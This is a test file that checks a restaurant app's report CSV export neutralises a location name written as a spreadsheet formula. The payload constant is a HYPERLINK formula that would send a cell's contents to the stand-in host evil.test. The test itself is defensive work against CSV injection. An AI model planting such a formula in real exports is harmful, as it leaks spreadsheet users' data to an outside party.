import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportCsv } from '@tableside/domain/report-csv';
import { createTestApp, type TestApp } from '../../test/harness.ts';

/**
 * Finding 6 of issue #31: a location named like a spreadsheet formula must reach the exported
 * CSV as text. The report goes through the real API and the same writer the browser uses.
 */
let t: TestApp;
let admin: string;
const FORMULA = '=HYPERLINK("http://evil.test/?d="&B5,"Open report")';

beforeAll(async () => {
  t = await createTestApp();
  admin = (await t.login('admin')).token;
});
afterAll(() => t.close());

describe('report CSV export', () => {
  it('writes a location named like a formula as neutralised text', async () => {
    const alpha = t.fx.loc('Alpha').id;
    const renamed = await t.call('PUT', `/v1/location/${alpha}`, {
      token: admin,
      body: { name: FORMULA },
    });
    expect(renamed.statusCode).toBe(200);
    const created = await t.call(
      'POST',
      `/v1/restaurant/${t.fx.restaurants.maison.id}/report/summary`,
      {
        token: admin,
        body: { startDate: '2026-03-01', endDate: '2026-03-15', location_id: alpha },
      },
    );
    expect(created.statusCode).toBe(200);
    const report = (
      await t.call(
        'GET',
        `/v1/restaurant/${t.fx.restaurants.maison.id}/report/${created.json().data.id}`,
        { token: admin },
      )
    ).json().data;
    expect(report.location_name).toBe(FORMULA);

    const csv = reportCsv(report, 'en');
    expect(csv).toContain(`Location,"'=HYPERLINK(""http://evil.test/?d=""&B5,""Open report"")"`);
    // No cell, quoted or not, starts with a character a spreadsheet would evaluate.
    const cells = csv.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    const opened = cells.map((c) => c.replace(/^"/, ''));
    expect(opened.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
  });
});
